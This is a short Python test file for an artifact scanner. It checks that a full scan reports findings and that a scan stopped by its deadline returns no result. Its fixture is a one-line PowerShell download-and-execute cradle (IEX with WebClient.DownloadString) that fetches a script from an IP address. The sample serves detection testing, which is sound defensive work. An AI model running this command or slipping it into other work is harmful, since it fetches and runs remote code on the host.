"""A stored artifact is scanned again as its inspection judged it, and a scan cut by the clock is no result."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

import pytest

from inspector.config import Settings
from inspector.rescan.scanner import ArtifactScanner

SCRIPT = b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\n"
SHA = hashlib.sha256(SCRIPT).hexdigest()


@pytest.fixture(scope="module")
def full_scanner(tmp_path_factory: pytest.TempPathFactory) -> ArtifactScanner:
    return ArtifactScanner.from_settings(Settings(data_dir=Path(tmp_path_factory.mktemp("data"))), "full")


def test_a_full_scan_finds_what_the_script_holds(full_scanner: ArtifactScanner) -> None:
    found = full_scanner.scan(SHA, SCRIPT, "powershell")
    assert found and all(f.artifact == SHA for f in found)


def test_a_scan_stopped_by_its_deadline_gives_no_result_rather_than_fewer_findings(
        full_scanner: ArtifactScanner) -> None:
    expired = replace(full_scanner, limits=replace(full_scanner.limits, deadline_s=0.0))
    assert expired.scan(SHA, SCRIPT, "powershell") is None
    rules_only = replace(expired, depth="rules")
    assert rules_only.scan(SHA, SCRIPT, "powershell") is None
